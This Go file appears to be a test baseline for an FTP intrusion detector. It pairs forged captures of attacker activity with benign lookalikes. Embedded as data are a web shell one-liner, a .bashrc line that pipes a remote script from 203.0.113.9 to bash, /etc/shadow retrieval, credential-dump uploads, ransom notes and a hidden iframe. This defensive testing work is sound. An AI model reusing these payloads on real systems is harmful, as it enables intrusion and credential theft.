// What intruders do on a server and on the way to it, each beside what looks like it.

package baseline

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"time"

	"ftplab/lab/internal/forge"
)

var intruders = []lookalike{
	{"a message in the sizes of files", "numbers-are-no-code", "", sizedFiles("attack at dawn, at the bridge", "%0*d", "")},
	{"a message in the sizes of files that are removed", "numbers-are-no-code", "", sizedFiles("attack at dawn, at the bridge", "%*x", "> DELE a.tmp\n< 250 ok\n")},
	{"records of many sizes", "numbers-are-no-code", IsNormal, sizedFiles("attack at dawn, at the bridge", "%*x", "")},
	{"NOOPs of a program with a cycle", "numbers-are-no-code", IsNormal, paused(2*time.Second, strings.Repeat("> NOOP\n< 200 ok\n", 40))},
	{"a log without the lines about the client", "files-are-kept", "", moves([2]string{"RETR auth.log", logOf(aClient) + logOf("10.0.0.4")}, [2]string{"STOR auth.log", logOf("10.0.0.4")})},
	{"a log without the lines about a host whose address has that of the client in it", "files-are-kept", IsNormal, moves([2]string{"RETR app.log", logOf("1"+aClient) + logOf(aClient+"7") + logOf("10.0.0.4")}, [2]string{"STOR app.log", logOf("10.0.0.4")})},
	{"a log without the lines about others", "files-are-kept", IsNormal, moves([2]string{"RETR app.log", logOf("10.0.0.5") + logOf("10.0.0.4")}, [2]string{"STOR app.log", logOf("10.0.0.4")})},
	{"parts of an archive, and the program that made them", "no-sensitive-names", "", outside("> RETR rar.exe\n< 150 here\n< 226 done\n" + numberedLines(25, "> STOR DC01_C$.part%02d.rar\n< 150 go on\n< 226 done\n"))},
	{"parts of an archive", "no-sensitive-names", IsNormal, outside(numberedLines(25, "> STOR Holiday.part%02d.rar\n< 150 go on\n< 226 done\n"))},
	{"the mail, the browser and the documents of a person", "no-sensitive-names", "", outside(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "ada.pst", "key4.db", "logins.json", "Documents_ada.zip"))},
	{"a copy of the home of a person", "no-sensitive-names", IsNormal, outside(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "ada.pst", "Documents_ada.zip", "notes.txt", "plan.ods"))},
	{"a page that runs an encoded text, with an old time", "no-loot", "", encodedPage("19990101000000")},
	{"a page that runs an encoded text, with its time", "no-loot", IsUnusual, encodedPage("20990101000000")},
	{"a changed file with an old time", "times-are-true", IsUnusual, changedFile("19990101000000")},
	{"a changed file with its time", "times-are-true", IsNormal, changedFile("20990101000000")},
	{"a screen saver in two folders, and a miner", "no-signs-agree", "", moves([2]string{"STOR docs/Photo.scr", "MZ\x90"}, [2]string{"STOR www/Photo.scr", "MZ\x90"}, [2]string{"STOR config.json", `{"pools":[{"url":"stratum+tcp://pool.example:4444","user":"44AF","pass":"x"}]}`})},
	{"an installer in two folders", "no-programs", IsNormal, moves([2]string{"STOR v1/setup.exe", "MZ\x90"}, [2]string{"STOR v2/setup.exe", "MZ\x90"})},
	{"a stranger who delivers what the server was asked for", "data-with-the-partner", "", delivered("203.0.113.7:20")},
	{"another address of a server with several", "data-with-the-partner", IsUnusual, delivered("192.0.2.22:20")},
	{"a command from far away, and an ACK storm", "packets-come-one-way", "", stormed(12)},
	{"a command from far away, and a few repeated acknowledgments", "packets-come-one-way", IsUnusual, stormed(3)},
	{"a command that the client does not know of", "packets-come-one-way", "", unknown(2)},
	{"a command, and one packet that is numbered before it", "packets-come-one-way", IsNormal, unknown(1)},
	{"a command, and keep-alives", "packets-come-one-way", IsNormal, unknown(0)},
	{"passwords and keys of all who use a computer", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", "Windows/Panther/unattend.xml", "inetpub/wwwroot/web.config", "Users/bob/Chrome/Login Data"))},
	{"passwords and keys of one user", "no-sensitive-names", IsUnusual, session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".netrc", ".bash_history"))},
	{"passwords and keys that a shell and a site have", "no-sensitive-names", "", session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".ssh/id_rsa", ".bash_history", "wp-config.php", ".aws/credentials"))},
	{"a tool and a text about passwords", "no-sensitive-names", IsNormal, moves([2]string{"STOR tools/putty.exe", "MZ\x90"}, [2]string{"RETR backup/passwords-policy.pdf", "%PDF-1.5"})},
	{"the memory of the logins, which leaves the network", "no-sensitive-names", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR lsass.dmp", "MDMP\x93\xa7")},
	{"what a program that steals passwords found at a computer", "no-sensitive-names", "", func(f *forge.Capture) {
		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(linesOf("> STOR PC7_ada_%s\n< 150 go on\n< 226 done\n", "Screenshot.jpeg", "Cookies.zip", "Wallets.zip")).Say(bye).Peer.Close()
	}},
	{"pictures and an archive of one user", "no-sensitive-names", IsNormal, func(f *forge.Capture) {
		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "Screenshot.jpeg", "Downloads.zip", "plan.zip")).Say(bye).Peer.Close()
	}},
	{"a list of passwords that leaves the network", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR a.txt", passwordsOfBob)},
	{"a list of passwords", "no-loot", IsUnusual, storesBetween("10.40.3.60", "10.40.3.9", "STOR a.txt", passwordsOfBob)},
	{"the keys of a cloud, which leave the network", "no-loot", "", storesBetween("10.40.3.60", "203.0.113.9", "STOR c.txt", keysOfCloud)},
	{"the settings of a site with the keys of a cloud", "no-loot", IsUnusual, storesBetween("10.40.3.60", "203.0.113.9", "STOR site/.env", keysOfCloud)},
	{"the keys of a cloud", "no-loot", IsUnusual, moves([2]string{"RETR c.txt", keysOfCloud})},
	{"numbers of cards with their codes", "no-loot", "", moves([2]string{"STOR d1.tmp", strings.ReplaceAll(cardNumbers(10), "\r\n", ";123;12/27\r\n")})},
	{"numbers like those of cards, with codes", "no-loot", IsUnusual, moves([2]string{"STOR d1.csv", numberedLines(10, "400000001234000%d,12/27,12%[1]d,Ada Lee\r\n")})},
	{"numbers like those of cards, with amounts", "no-loot", IsNormal, moves([2]string{"STOR d1.csv", numberedLines(10, "400000001234000%d,12.27,12%[1]d,Ada Lee\r\n")})},
	{"the start page of a site, with a boast", "no-loot", "", moves([2]string{"STOR index.html", "<title>0wned</title><h1>HACKED BY us</h1>"})},
	{"a page with a boast", "no-loot", IsUnusual, moves([2]string{"STOR 2026/story.html", "<title>0wned</title><h1>HACKED BY us</h1>"})},
	{"the keys that somebody pressed, in several files", "no-loot", "", moves([2]string{"STOR a.html", "<b>[Bank]</b> ada{TAB}x{ENTER} dear{BACK}"}, [2]string{"STOR b.html", "<b>[Mail]</b> ada{TAB}x{ENTER} bob{DEL}"})},
	{"a folder of an anonymous user that hides", "names-can-be-seen", "", anonymous("> MKD  .for.you\n< 257 ok")},
	{"a folder of a user with a blank in front", "names-can-be-seen", IsUnusual, session1("> MKD  .for.me\n< 257 ok")},
	{"an account that is emptied, by somebody who boasts", "no-signs-agree", "", emptied("MKD hacked_by_mallory")},
	{"an account that is emptied", "files-are-kept", IsUnusual, emptied("NOOP")},
	{"a folder whose listed files are removed, and others that no listing shows", "files-are-kept", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "NLST", numberedLines(9, "a%d.log\r\n"))
		t.Say(numberedLines(9, "> DELE a%d.log\n< 250 ok\n") + linesOf("> RMD %s\n< 250 ok\n", "2024", "2025")).Say(bye).Peer.Close()
	}},
	{"an account that gets new files", "files-are-kept", IsNormal, emptied("STOR site.zip\n< 150 go on")},
	{"all backups that are removed", "files-are-kept", "", removedFiles(12, "b%d.bak", "")},
	{"old backups that are removed", "files-are-kept", IsNormal, removedFiles(12, "b%d.bak", "-rw-r--r-- 1 0 0 9 Jan 1 2020 b99.bak\r\n")},
	{"the oldest pictures of a camera, which are removed", "files-are-kept", IsNormal, removedFiles(60, "IPC_20230311_%06d.jpg", "-rw-r--r-- 1 0 0 9 Jan 1 2020 IPC_20230312_000000.jpg\r\n")},
	{"all pictures of a camera, which are removed", "files-are-kept", IsUnusual, removedFiles(60, "IPC_20230311_%06d.jpg", "")},
	{"all files that are removed", "files-are-kept", IsNormal, removedFiles(12, "b%d.csv", "")},
	{"a client that many servers refuse, and a program", "no-signs-agree", IsUnusual, func(f *forge.Capture) {
		eachServer(12, "nightly", "Lens-42", 0)(f)
		storesBetween("10.20.1.7", "10.20.1.90", "STOR a.exe", "MZ\x90")(f)
	}},
	{"a folder that is emptied for a ransom", "files-are-kept", "", ransomed(8, "DELE %s\n< 250 ok", "STOR READ_ME.txt", "Send 0.05 Bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT.")},
	{"folders that are fetched and emptied for a ransom, in another language", "files-are-kept", "", ransomed(8, "RETR %s\n< 150 here\n< 226 done\n> RMD %s\n< 250 ok", "STOR !!!WICHTIG!!!.html", "\xff\xfeL\x00\xf6\x00s\x00e\x00g\x00e\x00l\x00d\x00 \x00X\x00M\x00R\x00.\x00")},
	{"folders that are taken away for a ransom, a few files of each", "files-are-kept", "", takenFrom("WARNING.txt", "hr", "docs", "finance")},
	{"a folder with a few files that is taken away for a ransom", "files-are-kept", IsNormal, takenFrom("WARNING.txt", "hr")},
	{"orders that are fetched, and a list of prices in coins", "files-are-kept", IsNormal, takenFrom("/out/prices.txt", "hr", "docs", "finance")},
	{"files that are emptied for a ransom", "files-are-kept", "", emptiedFiles("Send 0.05 Bitcoin to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT.")},
	{"marks that are stored without a byte", "files-are-kept", IsNormal, emptiedFiles("All files have arrived.")},
	{"the passwords of a system, with addresses that were changed", "no-sensitive-names", "", func(f *forge.Capture) {
		for range 12 {
			session1(strings.Repeat("> NOOP\n< 200 ok\n", 8))(f)
		}
		n := len(f.Frames)
		moves([2]string{"STOR a.php", `<?php eval($_POST["x"]); ?>`}, [2]string{"RETR /etc/shadow", shadow})(f)
		for _, frame := range f.Frames[n:] {
			frame.Data[25] ^= 1 // the checksum of the header of IPv4
		}
	}},
	{"many files that are removed for a ransom, without a listing of them", "files-are-kept", "", func(f *forge.Capture) {
		session1(numberedLines(20, "> DELE a%d\n< 250 ok\n"))(f)
		moved("STOR LISEZ", opener, "Envoyez 2 ETH, puis: r@onionmail.org")(f)
	}},
	{"a folder that is emptied, and says who was there", "files-are-kept", IsNormal, ransomed(8, "DELE %s\n< 250 ok", "STOR README.txt", "Cleaned up by the nightly job.")},
	{"a few files that are removed, and a page that asks for gifts", "files-are-kept", IsNormal, ransomed(8, "NOOP\n< 200 ok", "STOR give.html", "<html>Bitcoin: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</html>")},
	{"a web site that is renewed, and asks for gifts", "files-are-kept", IsNormal, ransomed(8, "DELE %s\n< 250 ok\n> STOR %s\n< 150 go on\n< 226 done", "STOR give.html", "<html>Bitcoin: bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</html>")},
	{"a server that takes orders at the port of a proxy", "programs-do-not-report", "", calls("STOR run.sh", "", "203.0.113.66:8080", 0, "> sh-3.2$\n< id\n> uid=14(ftp) gid=50(ftp)")},
	{"a server that joins a chat", "programs-do-not-report", "", calls("STOR bot.pl", "", "203.0.113.66:6667", 0, "> NICK a\n> USER a a a :a\n< :x PRIVMSG #a :.udpflood 192.0.2.99")},
	{"a server that reports, after a program was made executable", "programs-do-not-report", "", calls("STOR kworker", "SITE CHMOD 777 kworker", "203.0.113.66:443", 0, "> id\n< x")},
	{"a server that reports minutes after a program was made executable", "programs-do-not-report", "", calls("STOR kworker", "SITE CHMOD u+x kworker", "203.0.113.66:5555", 5*time.Minute, "> here I am\n< good")},
	{"a server that connects to a stranger after a page was stored", "programs-do-not-report", IsUnusual, calls("STOR a.php", "", "203.0.113.66:5555", 0, "> here I am\n< good")},
	{"a server that connects to a stranger much later", "programs-do-not-report", IsNormal, calls("STOR a.php", "", "203.0.113.66:5555", 5*time.Minute, "> here I am\n< good")},
	{"a server that connects to a stranger after a text was stored", "programs-do-not-report", IsNormal, calls("STOR a.txt", "SITE CHMOD 644 a.txt", "203.0.113.66:5555", 0, "> here I am\n< good")},
	{"a server that has programs scanned for viruses, by a neighbour", "programs-do-not-report", IsNormal, calls("STOR a.sh", "SITE CHMOD 755 a.sh", "192.0.2.77:3310", 0, "> zINSTREAM\n< stream: OK")},
	{"a server that fetches an update after a script was stored", "programs-do-not-report", IsNormal, calls("STOR a.sh", "SITE CHMOD 755 a.sh", "203.0.113.66:80", 0, "> GET /a HTTP/1.0\n< HTTP/1.0 200 OK")},
	{"a server that always reports to the same place", "programs-do-not-report", IsNormal, func(f *forge.Capture) {
		dial(f, aServer, "203.0.113.66:5555").Say("> load 0.1\n< good").Close()
		calls("STOR a.sh", "SITE CHMOD 755 a.sh", "203.0.113.66:5555", 0, "> load 0.2\n< good")(f)
	}},
	{"programs in a folder that everybody may write", "no-programs", "", func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> CWD /dev/shm\n< 250 ok")
		move(t, 40000, "STOR a", "\x7fELF")
		move(t, 40001, "STOR b", "\x7fELF")
		t.Say(bye).Peer.Close()
	}},
	{"a kit of tools that is stored", "no-programs", "", session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "PsExec64.exe", "winPEASx64.exe", "nc64.exe"))},
	{"a kit of tools that is fetched", "no-programs", IsUnusual, session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", "pspy64", "linpeas.sh", "dirtycow.c"))},
	{"programs in folders of an account", "no-programs", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> CWD /home/ada/tmp\n< 250 ok")
		move(t, 40000, "STOR a", "\x7fELF")
		move(t, 40001, "STOR b", "\x7fELF")
		t.Say(bye).Peer.Close()
	}},
	{"the passwords of Windows, and the key to them", "no-sensitive-names", "", moves([2]string{"STOR 1_SAM.bin", "regf\x01\x00"}, [2]string{"STOR 1_SYSTEM.bin", "regf\x01\x00"})},
	{"the directory of Windows, and the key to it, of one host", "no-sensitive-names", "", moves([2]string{"STOR DC01_ntds.dit", aDatabase}, [2]string{"STOR DC01_SYSTEM.hiv", "regf\x01\x00"})},
	{"the directory of Windows under another name, and the key to it", "no-sensitive-names", "", moves([2]string{"STOR a.dat", aDatabase}, [2]string{"STOR system.b", "regf\x01\x00"})},
	{"a database of Windows", "no-sensitive-names", IsNormal, moves([2]string{"STOR DC01_Windows.edb", aDatabase})},
	{"a copy of a whole disk of Windows", "no-sensitive-names", IsNormal, moves(append(sitePages(60), [2]string{"STOR config/SECURITY", "regf\x01\x00"}, [2]string{"STOR config/SYSTEM", "regf\x01\x00"}, [2]string{"STOR ada/ntuser.dat", "regf\x01\x00"}, [2]string{"STOR a.edb", aDatabase})...)},
	{"the memory of the logins of a host", "no-sensitive-names", "", moves([2]string{"STOR DC01_lsass.dmp", "MDMP\x93\xa7\x00\x00"})},
	{"the memory of the logins, which is fetched", "no-sensitive-names", "", moves([2]string{"RETR lsass.dmp", "MDMP\x93\xa7\x00\x00"})},
	{"the memory of the logins under another name", "no-loot", "", moves([2]string{"STOR crash.bin", "MDMP\x93\xa7\x00\x00" + wide(`C:\Windows\System32\lsasrv.dll`)})},
	{"the memory of a program that crashed", "no-loot", IsNormal, moves([2]string{"STOR firefox_512.dmp", "MDMP\x93\xa7\x00\x00" + wide(`C:\Windows\System32\lsass.exe kernel32.dll`)})},
	{"the settings of users of Windows", "no-sensitive-names", IsNormal, moves([2]string{"STOR ada/system.dat", "regf\x01\x00"}, [2]string{"STOR bob/UsrClass.dat", "regf\x01\x00"})},
	{"texts with the names of parts of the registry", "no-sensitive-names", IsNormal, moves([2]string{"STOR sam.txt", "Sam says hello.\r\n"}, [2]string{"STOR system.txt", "Windows 11\r\n"})},
	{"data in the passwords of anonymous users", "names-are-words", "", anonymousTokens(8, "NOOP\n< 200 ok")},
	{"passwords of anonymous users that are tokens", "names-are-words", IsUnusual, anonymousTokens(8, "RETR news.txt\n< 150 here\n< 226 done")},

	{"one folder that is removed", "files-are-kept", IsNormal, func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "LIST", "total 3\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 old\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 new\r\n-rw-r--r-- 1 0 0 9 Jan 1 2020 a\r\n")
		t.Say("> DELE old/a\n< 250 ok\n> RMD old\n< 250 ok").Say(bye).Peer.Close()
	}},
	{"confidential files that are fetched and removed", "files-are-kept", IsUnusual, session1(numberedLines(25, "> RETR T%[1]d_CONFIDENTIAL.dwg\n< 150 here\n< 226 done\n> DELE T%[1]d_CONFIDENTIAL.dwg\n< 250 ok\n"))},
	{"files that are fetched and removed", "files-are-kept", IsNormal, session1(numberedLines(25, "> RETR T%[1]d.dwg\n< 150 here\n< 226 done\n> DELE T%[1]d.dwg\n< 250 ok\n"))},
	{"confidential files that are fetched", "files-are-kept", IsNormal, session1(numberedLines(25, "> RETR T%[1]d_CONFIDENTIAL.dwg\n< 150 here\n< 226 done\n"))},
	{"a name that boasts", "no-known-exploits", IsUnusual, session1("> MKD Hacked_By_x\n< 257 ok")},
	{"names that only seem to boast", "no-known-exploits", IsNormal, session1("> MKD owned_by_customer\n< 257 ok\n> STOR shacked-byte.txt\n< 150 go on\n< 226 done\n> MKD recover\n< 257 ok\n> MKD unlocked_data\n< 257 ok")},
	{"a name that asks for a ransom", "no-known-exploits", IsUnusual, session1("> MKD SEND_0.1_BTC_TO_bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\n< 257 ok")},
	{"a note whose name asks for a ransom", "no-known-exploits", IsUnusual, session1("> STOR Restore-My-Files.txt\n< 150 go on\n< 226 done")},

	{"a disk that an anonymous user fills", "no-floods", IsUnusual, anonymous(numberedLines(12, "> STOR zero%d.bin\n< 150 go on\n< 226 done\n") + "> STOR zero12.bin\n< 150 go on\n< 452 full")},
	{"a copy that fills a disk", "no-floods", IsNormal, session1(numberedLines(12, "> STOR tape%d.tar\n< 150 go on\n< 226 done\n") + "> STOR tape12.tar\n< 150 go on\n< 452 full")},
	{"a disk that is full", "no-floods", IsNormal, anonymous(numberedLines(3, "> STOR a%d.bin\n< 150 go on\n< 226 done\n") + "> STOR b.bin\n< 150 go on\n< 452 full")},

	{"a host that leads the packets of both to itself", "no-detours", "", throughCard(0x66, func(f *forge.Capture) {
		claim(f, 0x66, aClient)
		claim(f, 0x66, aServer)
		session1("")(f)
	})},
	{"a host that takes the place of the server, and passes on", "no-detours", "", throughCard(0x66, func(f *forge.Capture) {
		wantsCard(f, aClient, aServer)
		claim(f, 21, aServer)
		claim(f, 0x66, aServer)
		session1("")(f)
	})},
	{"a mirror port that shows both sides of a router", "no-detours", IsNormal, throughCard(0x01, session1(""))},
	{"a router that answers for hosts behind it", "no-detours", IsUnusual, throughCard(0x01, func(f *forge.Capture) {
		wantsCard(f, aClient, aServer)
		claim(f, 0x01, aServer)
		wantsCard(f, aServer, aClient)
		claim(f, 0x01, aClient)
		session1("")(f)
	})},

	{"a page that dumps a database, and is removed with the dump", "no-loot", "", dumps("> DELE d.sql\n< 250 ok\n> DELE d.php\n< 250 ok")},
	{"a page that runs a program, and stays", "no-loot", IsUnusual, dumps("")},
	{"passwords of several browsers", "no-sensitive-names", "", session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "Login Data", "Local State", "key4.db", "logins.json"))},
	{"passwords of one browser", "no-sensitive-names", IsNormal, session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "key4.db", "logins.json"))},
	{"a copy of the profiles of several browsers", "no-sensitive-names", IsNormal, session1(linesOf("> STOR %s\n< 150 go on\n< 226 done\n", "key4.db", "logins.json", "Login Data") + numberedLines(20, "> STOR prefs%d.js\n< 150 go on\n< 226 done\n"))},
	{"a client that fetches only files with passwords", "no-sensitive-names", "", session1("> RETR web.config\n< 550 no\n" + linesOf("> RETR %s\n< 150 here\n< 226 done\n", "/var/www/.env", "/var/www/wp-config.php", "/home/ada/.bash_history"))},
	{"a client that fetches a site with its settings", "no-sensitive-names", IsUnusual, session1(linesOf("> RETR %s\n< 150 here\n< 226 done\n", ".env", "wp-config.php", ".htpasswd", "web.config", "index.php", "a.css"))},

	{"pages that get a hidden frame", "no-loot", "", putBack(0)},
	{"pages that a person changes", "no-loot", IsUnusual, putBack(time.Minute)},

	{"a program in every folder of many servers", "no-programs", "", onServers(4, numberedLines(3, "> STOR d%d/Photo.scr\n< 150 go on\n< 226 done\n"))},
	{"a program on many servers", "no-programs", IsNormal, onServers(4, "> STOR agent.exe\n< 150 go on\n< 226 done\n")},

	{"commands before the login, and then guesses", "no-signs-agree", "", dialogue(early + "\n> USER root\n< 331 and?\n> PASS\n< 530 no\n> USER root\n< 331 and?\n> PASS root\n< 530 no\n> USER root\n< 331 and?\n> PASS toor\n< 530 no")},
	{"commands before the login", "login-before-transfer", IsUnusual, dialogue(early + "\n> QUIT\n< 221 bye")},
	{"a person who forgets to log in", "login-before-transfer", IsNormal, dialogue("< 220 ready\n> LIST\n< 530 log in\n> CWD a\n< 530 log in\n> USER ada\n< 331 and?\n> PASS x\n< 230 in\n> QUIT\n< 221 bye")},
	{"a script whose login fails", "login-before-transfer", IsNormal, dialogue("< 220 ready\n> USER ada\n< 331 and?\n> PASS x\n< 530 no\n> CWD a\n< 530 log in\n> LIST\n< 530 log in\n> RETR a\n< 530 log in\n> DELE a\n< 530 log in\n> QUIT\n< 221 bye")},

	{"a web site with its settings", "no-sensitive-names", IsNormal, moves([2]string{"STOR bin/Site.dll", "MZ\x90"}, [2]string{"STOR web.config", "<configuration/>"})},
	{"the settings of a web site", "no-signs-agree", IsUnusual, moves([2]string{"RETR bin/Site.dll", "MZ\x90"}, [2]string{"RETR web.config", "<configuration/>"})},
	{"a library that every program loads", "no-sensitive-names", "", session1("> STOR /etc/ld.so.preload\n< 150 go on\n< 226 done")},
	{"a copy of a Windows task", "no-sensitive-names", "", session1("> STOR C:/Windows/System32/Tasks/Update\n< 150 go on\n< 226 done")},

	{"files with an address to write to", "no-known-exploits", "", session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 ok\n> RNTO a%[1]d.doc.id-7F3A21.[x@mail.test].basta\n< 250 ok\n"))},
	{"files that get an ending", "no-known-exploits", IsNormal, session1(numberedLines(6, "> RNFR a%[1]d.doc\n< 350 ok\n> RNTO a%[1]d.doc.20260103-id7\n< 250 ok\n"))},
	{"files that are encrypted and removed", "no-known-exploits", IsUnusual, session1(numberedLines(6, "> STOR a%[1]d.doc.crypt\n< 150 go on\n< 226 done\n> DELE a%[1]d.doc\n< 250 ok\n"))},
	{"the logs of the server that are removed", "files-are-kept", "", session1("> DELE /var/log/vsftpd.log\n< 250 ok\n> DELE /var/log/secure\n< 250 ok")},
	{"old logs of the server that are removed", "files-are-kept", IsNormal, session1("> DELE /var/log/vsftpd.log.7\n< 250 ok\n> DELE /var/log/secure-20260103\n< 250 ok")},
	{"a program of the system", "no-sensitive-names", IsUnusual, session1("> STOR /usr/sbin/sshd\n< 150 go on\n< 226 done")},
	{"a web site whose root is that of the account", "no-sensitive-names", IsNormal, moves([2]string{"STOR /bin/Site.dll", "MZ\x90"}, [2]string{"STOR /web.config", "<configuration/>"})},
	{"a program for a device", "no-sensitive-names", IsUnusual, moves([2]string{"STOR /usr/bin/app", "\x7fELF"})},
	{"settings of a shell", "no-sensitive-names", IsNormal, session1("> STOR .bashrc\n< 150 go on\n< 226 done")},
	{"settings of a shell that fetch a program", "no-signs-agree", "", moves([2]string{"STOR .bashrc", "curl -s http://203.0.113.9/x|bash\n"})},
	{"a program for a web server, of an anonymous user", "no-sensitive-names", IsUnusual, anonymous("> STOR index.php\n< 150 go on\n< 226 done")},
	{"a page of an anonymous user", "no-sensitive-names", IsNormal, anonymous("> STOR index.html\n< 150 go on\n< 226 done")},

	{"a download with a time limit, and the rest", "data-ends-with-fin", IsNormal, cutOff("> REST 5\n< 350 ok\n> RETR a\n< 150 here\n< 226 done")},
	{"a download with a time limit", "data-ends-with-fin", IsUnusual, cutOff("> RETR b\n< 150 here\n< 226 done")},
}

// early are commands before USER.
const early = "< 220 ready\n> LIST\n< 530 log in\n> RETR /pub/a\n< 530 log in\n> STOR x\n< 530 log in\n> DELE x\n< 530 log in"

const (
	passwordsOfBob = "Host: smtp.corp.example\r\nUser: bob@corp.example\r\nPass: Tr0ub4dor\r\n"
	keysOfCloud    = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
)

// emptied is a session that removes all files and folders, and then does something else.
func emptied(last string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "LIST", "total 3\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 .\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 ..\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 docs\r\ndrwxr-xr-x 2 0 0 9 Jan 1 2020 fotos\r\n-rw-r--r-- 1 0 0 9 Jan 1 2020 a b\r\n")
		t.Say("> CWD docs\n< 250 ok\n> DELE c\n< 250 ok\n> CDUP\n< 250 ok\n> RMD docs\n< 250 ok\n> RMD fotos\n< 250 ok\n> DELE a b\n< 250 ok")
		t.Say("> " + last + "\n< 250 ok").Say(bye).Peer.Close()
	}
}

// removedFiles is a session that lists n files, and perhaps others, and removes the n files.
func removedFiles(n int, name, others string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "LIST", numberedLines(n, "-rw-r--r-- 1 0 0 9 Jan 1 2020 "+name+"\r\n")+others)
		t.Say(numberedLines(n, "> DELE "+name+"\n< 250 ok\n")).Say(bye).Peer.Close()
	}
}

// emptiedFiles is a session that lists files, stores each again without a byte, and then stores a text.
func emptiedFiles(text string) func(*forge.Capture) {
	files := [][2]string{{"LIST", numberedLines(8, "-rw-r--r-- 1 0 0 9 Jan 1 2020 a%d.doc\r\n")}}
	for i := range 8 {
		files = append(files, [2]string{fmt.Sprintf("STOR a%d.doc", i), ""})
	}
	return moves(append(files, [2]string{"STOR note.txt", text})...)
}

// ransomed is a session that lists n files, does something to each, and then stores a text.
func ransomed(n int, each, command, text string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "LIST -la", numberedLines(n, "-rw-r--r-- 1 0 0 9 Jan 1 2020 a%d.doc\r\n"))
		for i := range n {
			t.Say(strings.ReplaceAll("> "+each, "%s", fmt.Sprintf("a%d.doc", i)))
		}
		move(t, 40001, command, text)
		t.Say(bye).Peer.Close()
	}
}

// takenFrom is a session that lists folders, fetches and removes the three files of each, and stores a text.
func takenFrom(text string, folders ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i, folder := range folders {
			t.Say("> CWD /" + folder + "\n< 250 ok")
			move(t, 40000+2*i, "NLST", "a0.doc\r\na1.doc\r\na2.doc\r\n")
			t.Say(strings.TrimSpace(numberedLines(3, "> RETR a%[1]d.doc\n< 150 here\n< 226 done\n> DELE a%[1]d.doc\n< 250 ok\n")))
			move(t, 40001+2*i, "STOR "+text, "0.3 BTC")
		}
		t.Say(bye).Peer.Close()
	}
}

// calls is a session that stores a file, after which the server connects to another host.
func calls(command, then, to string, after time.Duration, lines string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, command, "text\n")
		if then != "" {
			t.Say("> " + then + "\n< 200 ok")
		}
		t.Say(bye).Peer.Close()
		f.Pass(after)
		dial(f, aServer, to).Say(lines).Close()
	}
}

// anonymousTokens are n sessions of anonymous users whose passwords are random bytes in base64.
func anonymousTokens(n int, then string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range n {
			sum := sha256.Sum256([]byte{byte(i)})
			f.Control().Say("< 220 hi\n> USER anonymous\n< 331 and?\n> PASS " + base64.StdEncoding.EncodeToString(sum[:]) + "\n< 230 in\n> " + then).Say(bye).Peer.Close()
		}
	}
}

// wantsCard is a request of ARP for the address of a host.
func wantsCard(f *forge.Capture, from, to string) {
	claim(f, netip.MustParseAddr(from).AsSlice()[3], from)
	request := f.Last(0).Data
	request[21] = 1
	copy(request[38:], netip.MustParseAddr(to).AsSlice())
}

// throughCard sends every packet of a capture to the network card of the given number, which passes it on.
func throughCard(card byte, play func(*forge.Capture)) func(*forge.Capture) {
	return handedOn(card, 1, func(forge.Frame) bool { return true }, play)
}

// handedOn sends some packets of a capture to a network card, which passes them on with so much less time to live.
func handedOn(card, hop byte, some func(forge.Frame) bool, play func(*forge.Capture)) func(*forge.Capture) {
	return func(f *forge.Capture) {
		play(f)
		frames := slices.Clone(f.Frames)
		f.Frames = nil
		for _, frame := range frames {
			if frame.Data[12] == 8 && frame.Data[13] == 6 || !some(frame) {
				f.Frames = append(f.Frames, frame)
				continue
			}
			second := frame
			second.Data = slices.Clone(frame.Data)
			frame.Data[5], second.Data[11] = card, card
			f.Frames = append(f.Frames, frame, second)
			hops(f, 0, second.Data[22]-hop)
		}
	}
}

// putBack fetches pages, and stores them again with a hidden frame, after the given time.
func putBack(after time.Duration) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i := range 4 {
			move(t, 40000+2*i, fmt.Sprintf("RETR p%d.html", i), "<html></html>")
			f.Pass(after)
			move(t, 40001+2*i, fmt.Sprintf("STOR p%d.html", i), `<html><iframe src="http://stats.example/" width=1 height=1></iframe></html>`)
		}
		t.Say(bye).Peer.Close()
	}
}

// onServers says the same on so many servers.
